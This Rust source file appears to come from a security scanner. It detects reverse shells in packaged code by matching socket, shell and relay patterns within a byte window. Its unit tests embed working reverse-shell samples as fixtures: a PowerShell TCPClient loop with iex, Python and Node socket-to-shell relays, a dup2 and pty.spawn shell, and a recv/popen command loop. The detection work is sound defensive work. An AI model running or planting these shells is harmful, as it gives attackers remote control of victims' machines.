//! Reverse shells that RCE018's one-line forms (`bash -i >& /dev/tcp/…`, `nc -e`, `dup2` + `pty.spawn`)
//! do not cover, recognised by their three parts within a few kilobytes of one segment:
//! - the PowerShell `TCPClient` loop: a `System.Net.Sockets.TCPClient` to a host, its `GetStream()`, and
//!   `iex`/`Invoke-Expression` of what the stream reads (often inside a Python or JS string that
//!   `os.system` runs);
//! - the relay: an outbound socket, a shell process (`cmd.exe`, `powershell`, `/bin/sh`, `bash`), and the
//!   socket wired to the shell's input (`stdin=s.fileno()`, `proc.stdin.write(<socket read>)`,
//!   `client.pipe(sh.stdin)`);
//! - the command loop: an outbound socket whose received text is run as a command (`os.popen(data)`,
//!   `subprocess.check_output(data, shell=True)`) and whose output is sent back;
//! - the redirect: the process's own descriptors duplicated onto a socket however the descriptor numbers
//!   are written (`for fd in range(3): os.dup2(s.fileno(), fd)`), then a shell started (`pty.spawn`,
//!   `os.execv('/bin/sh', …)`), whatever host the socket was given.
//!
//! A shell started with a pipe for the program's own commands, or a socket used for something else in
//! the same file, is not a reverse shell: the parts must sit within [`WINDOW`] bytes of each other and the
//! socket must connect out (or accept) rather than only exist.

use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static REVERSE_SHELL_PARTS: FileDetector = FileDetector {
    literals: &[
        "TCPClient",
        "socket",
        "Socket",
        "net.connect",
        "createConnection",
    ],
    run: report_reverse_shells,
};

/// The parts of one shell sit within this many bytes of each other.
const WINDOW: usize = 4096;
/// Occurrences of a part examined per segment.
const MAX_PARTS: usize = 256;

// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static TCP_CLIENT: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"(?i)Net\.Sockets\.TCPClient\s*\(").expect("tcp client pattern"));
#[allow(clippy::expect_used)]
static GET_STREAM: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"(?i)\.GetStream\s*\(").expect("get stream pattern"));
#[allow(clippy::expect_used)]
static INVOKE: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"(?i)\biex\b|\bInvoke-Expression\b").expect("invoke expression pattern")
});
/// A socket that connects out or accepts a caller.
#[allow(clippy::expect_used)]
static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\bcreate_connection\s*\(|\.connect\s*\(\s*\(|\.connect_ex\s*\(\s*\(|\.accept\s*\(\s*\)",
        r"|\bnet\.(?:connect|createConnection)\s*\(|new\s+net\.Socket\s*\(\s*\)\s*;?[\s\S]{0,200}?\.connect\s*\("
    ))
    .expect("connect pattern")
});
/// A shell program started as a process.
#[allow(clippy::expect_used)]
static SHELL: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"(?i)\b(?:Popen|spawn|run|call)\s*\(\s*\[?\s*['"`](?:cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh(?:\.exe)?"#,
        r#"|(?:/usr)?/bin/(?:ba|z|da|k)?sh|(?:ba|z)?sh)['"`]"#
    ))
    .expect("shell pattern")
});
/// The socket wired to the shell's input.
#[allow(clippy::expect_used)]
static RELAY: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r"\bstdin\s*=\s*\w+\.fileno\s*\(\s*\)|\bstdin\s*=\s*(?:s|sock|socket|conn|client|connection)\b",
        r"|\.stdin\.write\s*\(|\.pipe\s*\(\s*\w+\.stdin\s*\)"
    ))
    .expect("relay pattern")
});
/// A socket read: what the relay or the loop takes from the caller.
#[allow(clippy::expect_used)]
static SOCKET_READ: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\.recv\s*\(|\.makefile\s*\(|\.pipe\s*\(|\bstdin\s*=\s*\w+\.fileno")
        .expect("read pattern")
});
/// `name = sock.recv(…)`: the received text, by the name it is kept under.
#[allow(clippy::expect_used)]
static RECEIVED: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"(?m)\b([A-Za-z_]\w*)\s*=\s*\w+\.recv\s*\(").expect("received pattern")
});
/// A socket's descriptor copied over one of the process's own.
#[allow(clippy::expect_used)]
static DUP2_SOCKET: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r"\bdup2\s*\(\s*[\w.]+\.fileno\s*\(\s*\)\s*,").expect("dup2 pattern")
});
/// A shell started in place or on a terminal.
#[allow(clippy::expect_used)]
static SHELL_IN_PLACE: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"\bpty\.spawn\s*\(|\bspawn\s*\(\s*['"](?:/usr)?/bin/(?:ba|z|da|k)?sh['"]"#,
        r#"|\bexecl?[pv]?e?\s*\(\s*['"](?:/usr)?/bin/(?:ba|z|da|k)?sh['"]"#
    ))
    .expect("shell in place pattern")
});
#[allow(clippy::expect_used)]
static SEND_BACK: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"\.send(?:all)?\s*\(").expect("send pattern"));

fn report_reverse_shells(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    let near = |pattern: &Regex, at: usize| {
        let from = floor(body, at.saturating_sub(WINDOW));
        let to = floor(body, (at + WINDOW).min(body.len()));
        pattern.is_match(&body[from..to])
    };
    let mut report = |start: usize, end: usize, message: String| {
        keep(Hit {
            start: segment.start + start,
            end: segment.start + end,
            detail: Some(Box::new(HitDetail {
                message,
                related: Vec::new(),
            })),
        })
    };
    if body.contains("TCPClient") || body.contains("tcpclient") || body.contains("TcpClient") {
        for m in TCP_CLIENT.find_iter(body).take(MAX_PARTS) {
            let to = floor(body, (m.end() + WINDOW).min(body.len()));
            let after = &body[m.end()..to];
            if GET_STREAM.is_match(after) && INVOKE.is_match(after) {
                let message = "a PowerShell TCPClient reads commands from a remote host and runs them with iex (reverse shell)".to_string();
                if !report(m.start(), m.end(), message) {
                    return;
                }
            }
        }
    }
    if !CONNECT.is_match(body) {
        return;
    }
    for m in SHELL.find_iter(body).take(MAX_PARTS) {
        if near(&CONNECT, m.start()) && near(&RELAY, m.start()) && near(&SOCKET_READ, m.start()) {
            let message = format!(
                "a shell process (`{}`) has its input wired to a network connection (reverse shell)",
                m.as_str()
            );
            if !report(m.start(), m.end(), message) {
                return;
            }
        }
    }
    if body.contains("dup2") {
        for m in DUP2_SOCKET.find_iter(body).take(MAX_PARTS) {
            if near(&CONNECT, m.start())
                && (near(&SHELL_IN_PLACE, m.start()) || near(&SHELL, m.start()))
            {
                let message = "the process's descriptors are duplicated onto a network socket and a shell is started on them (reverse shell)".to_string();
                if !report(m.start(), m.end(), message) {
                    return;
                }
                break;
            }
        }
    }
    for c in RECEIVED.captures_iter(body).take(MAX_PARTS) {
        let (Some(whole), Some(name)) = (c.get(0), c.get(1)) else {
            continue;
        };
        let to = floor(body, (whole.end() + WINDOW).min(body.len()));
        let after = &body[whole.end()..to];
        if runs_received(after, name.as_str())
            && SEND_BACK.is_match(after)
            && near(&CONNECT, whole.start())
        {
            let message = format!(
                "text received from a network connection (`{}`) is run as a command and the output sent back (remote shell loop)",
                name.as_str()
            );
            if !report(whole.start(), whole.end(), message) {
                return;
            }
        }
    }
}

/// Whether the received `name` is the command of a process call in `after`.
fn runs_received(after: &str, name: &str) -> bool {
    const RUNNERS: &[&str] = &[
        "os.popen(",
        "os.system(",
        "subprocess.check_output(",
        "subprocess.getoutput(",
        "subprocess.run(",
        "subprocess.Popen(",
        "subprocess.call(",
        "getoutput(",
        "check_output(",
    ];
    RUNNERS.iter().any(|runner| {
        after.match_indices(runner).take(16).any(|(at, _)| {
            let args = &after[at + runner.len()..];
            let first = args.split([',', ')']).next().unwrap_or("");
            first
                .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                .any(|w| w == name)
        })
    })
}

/// The largest character boundary at or below `at`.
fn floor(text: &str, mut at: usize) -> usize {
    while at > 0 && !text.is_char_boundary(at) {
        at -= 1;
    }
    at
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::Language;

    fn fired(text: &str, language: Language, path: &str) -> Vec<String> {
        let mut out = Vec::new();
        for segment in segment_file(text, language, path) {
            (REVERSE_SHELL_PARTS.run)(&segment, text, &mut |hit| {
                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
                true
            });
        }
        out
    }

    #[test]
    fn a_powershell_tcp_client_loop_in_a_python_string_fires() {
        let text = "import os\ncmd = ('powershell -NoP -W Hidden -c \"$c = New-Object System.Net.Sockets.TCPClient(\\'203.0.113.7\\',4444);'\n    '$s = $c.GetStream(); while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (iex $t 2>&1 | Out-String)}\"')\nos.system(cmd)\n";
        assert_eq!(fired(text, Language::Python, "setup.py").len(), 1);
    }

    #[test]
    fn a_shell_relayed_to_a_socket_fires() {
        let relay = "import socket, subprocess, threading\ns = socket.create_connection((HOST, PORT))\nr = s.makefile('rb')\np = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\nwhile True:\n    p.stdin.write(r.read(1))\n";
        assert_eq!(fired(relay, Language::Python, "pkg/rce.py").len(), 1);
        let fileno = "import socket, subprocess\ns = socket.socket()\ns.connect((H, P))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
        assert_eq!(fired(fileno, Language::Python, "pkg/x.py").len(), 1);
        let node = "const net = require('net'); const cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, HOST, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n";
        assert_eq!(fired(node, Language::Javascript, "index.js").len(), 1);
    }

    #[test]
    fn descriptors_duplicated_onto_a_socket_in_a_loop_then_a_shell_fires() {
        let text = "import os, socket, pty\nparts = [198, 51, 100, 71]\ns = socket.socket()\ns.connect(('.'.join(map(str, parts)), 443))\nfor fd in range(3):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n";
        assert_eq!(fired(text, Language::Python, "pkg/__init__.py").len(), 1);
        // A daemon that points its output at a log file and a test server's socket without a shell.
        let quiet = "import os, socket\nlog = open('/var/log/d.log', 'a')\nos.dup2(log.fileno(), 1)\ns = socket.socket()\ns.connect(('localhost', 8080))\ns.sendall(b'hi')\n";
        assert!(fired(quiet, Language::Python, "pkg/daemon.py").is_empty());
    }

    #[test]
    fn a_received_command_run_and_sent_back_fires() {
        let text = "import socket, os\ns = socket.socket()\ns.connect((H, 9001))\nwhile True:\n    data = s.recv(1024).decode()\n    out = os.popen(data).read()\n    s.send(out.encode())\n";
        assert_eq!(fired(text, Language::Python, "pkg/agent.py").len(), 1);
    }

    #[test]
    fn a_shell_with_its_own_pipe_or_a_socket_alone_is_quiet() {
        // The program feeds its own script to a shell; the socket is a health check elsewhere.
        let own = "import socket, subprocess\ndef healthy():\n    return socket.create_connection(('localhost', 5432), 1)\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'make build')\n";
        assert!(fired(own, Language::Python, "tools/build.py").is_empty());
        // A client that receives a reply and logs it, running nothing.
        let client = "import socket\ns = socket.socket()\ns.connect((H, P))\ns.sendall(b'ping')\nreply = s.recv(64)\nprint(reply)\n";
        assert!(fired(client, Language::Python, "pkg/ping.py").is_empty());
        // A .NET TCP client in PowerShell that sends a file and never evaluates what it reads.
        let send = "$c = New-Object System.Net.Sockets.TcpClient('backup.example.invalid', 873)\n$s = $c.GetStream()\n$s.Write($bytes, 0, $bytes.Length)\n";
        assert!(fired(send, Language::Powershell, "tools/push.ps1").is_empty());
    }

    #[test]
    fn a_megabyte_of_sockets_and_shells_stays_bounded() {
        let text = "s.connect((h, p))\nsubprocess.Popen(['sh'])\n".repeat(40_000);
        // Every part is there but no relay: nothing fires, and each search is capped.
        assert!(fired(&text, Language::Python, "pkg/big.py").is_empty());
    }
}
